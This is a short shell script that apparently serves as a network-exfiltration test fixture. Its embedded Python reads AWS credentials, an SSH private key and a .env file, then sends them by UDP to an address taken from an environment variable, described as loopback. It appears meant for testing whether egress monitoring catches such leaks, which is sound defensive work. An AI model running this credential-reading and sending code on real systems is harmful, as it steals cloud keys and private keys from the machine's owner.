#!/bin/sh
# family: network (UDP)
# needs: python3
# A test reads a credential and sends it in a datagram to the machine's loopback.
exec python3 - <<'PY'
import os, socket
data = b"udp:"
for p in ("~/.aws/credentials", "~/.ssh/id_ed25519", ".env"):
    try:
        data += open(os.path.expanduser(p), "rb").read()
    except OSError:
        pass
host, port = os.environ["CORPUS_UDP"].split(":")
for fam, addr in ((socket.AF_INET, (host, int(port))), (socket.AF_INET6, ("::ffff:" + host, int(port)))):
    try:
        s = socket.socket(fam, socket.SOCK_DGRAM)
        for _ in range(3):
            s.sendto(data, addr)
    except OSError as e:
        print("udp", e)
PY
